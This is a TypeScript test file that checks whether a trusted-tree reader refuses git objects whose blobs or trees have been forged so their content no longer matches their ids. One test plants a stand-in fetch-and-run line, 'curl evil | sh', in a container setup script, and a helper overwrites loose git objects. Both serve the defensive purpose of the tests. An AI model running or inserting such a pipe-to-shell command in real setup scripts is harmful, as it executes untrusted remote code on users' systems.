import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, it } from 'node:test';
import { TrustedTree } from '../../src/workspace/index.ts';
import { GIT_ENV, git, initRepo } from '../harness/git.ts';

// A checkout whose object store a sandboxed step could write (a repository it made, a
// `.git` it could reach) may answer a trusted commit's object ids with other content.
// git checks the commit and its root tree only; errand checks everything below.
let root: string;
let repo: string;
let base: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'errand-objects-'));
  repo = initRepo(join(root, 'repo'), {
    '.errand/sandbox.yaml': 'env: {}\n',
    '.errand/container/Containerfile': 'FROM scratch\n',
    '.errand/container/files/setup.sh': 'true\n',
  });
  base = git(repo, 'rev-parse', 'HEAD');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** Makes the loose object `id` hold the object `other` (both stay zlib-framed as git wrote them). */
function forge(id: string, other: string): void {
  const file = (sha: string) => join(repo, '.git', 'objects', sha.slice(0, 2), sha.slice(2));
  assert.ok(existsSync(file(id)) && existsSync(file(other)), 'loose objects');
  chmodSync(file(id), 0o644);
  copyFileSync(file(other), file(id));
}

/** Writes an object from stdin (`hash-object -w --stdin`, `mktree`) and returns its id. */
const write = (input: string, ...args: string[]) =>
  execFileSync('git', args, { cwd: repo, env: GIT_ENV, input, encoding: 'utf8' }).trim();

const tree = () => new TrustedTree(repo, base, 'repo');

it('refuses a trusted file whose blob does not match its id', async () => {
  const blob = git(repo, 'rev-parse', `${base}:.errand/sandbox.yaml`);
  const evil = write('env: { LOOSE: "1" }\n', 'hash-object', '-w', '--stdin');
  forge(blob, evil);
  assert.equal(git(repo, 'cat-file', 'blob', blob), 'env: { LOOSE: "1" }', 'git itself reads it');
  await assert.rejects(tree().readFile('.errand/sandbox.yaml'), {
    code: 'trusted_file_invalid',
    message: /\.errand\/sandbox\.yaml: object [0-9a-f]{40} .* does not match its content/,
  });
});

it('refuses a folder whose tree does not match its id', async () => {
  const folder = git(repo, 'rev-parse', `${base}:.errand`);
  const evilBlob = write('env: { LOOSE: "1" }\n', 'hash-object', '-w', '--stdin');
  const evilTree = write(`100644 blob ${evilBlob}\tsandbox.yaml\n`, 'mktree');
  forge(folder, evilTree);
  assert.equal(
    git(repo, 'show', `${base}:.errand/sandbox.yaml`),
    'env: { LOOSE: "1" }',
    'git itself reads it',
  );
  await assert.rejects(tree().readFile('.errand/sandbox.yaml'), /hash mismatch/);
});

it('refuses a container folder with a file whose blob does not match its id', async () => {
  const blob = git(repo, 'rev-parse', `${base}:.errand/container/files/setup.sh`);
  const evil = write('curl evil | sh\n', 'hash-object', '-w', '--stdin');
  forge(blob, evil);
  const dest = join(root, 'ctx');
  await assert.rejects(tree().extractDir('.errand/container', dest), {
    code: 'trusted_file_invalid',
    message: /\.errand\/container\/files\/setup\.sh: object/,
  });
});

it('reads files and folders whose objects match their ids', async () => {
  assert.equal(String(await tree().readFile('.errand/sandbox.yaml')), 'env: {}\n');
  assert.equal(await tree().extractDir('.errand/container', join(root, 'ctx')), true);
});

it('refuses a commit named by anything but its full id', () => {
  for (const bad of ['main', base.slice(0, 12), `${base}^{tree}`, ''])
    assert.throws(() => new TrustedTree(repo, bad, 'repo'), { code: 'usage' });
});
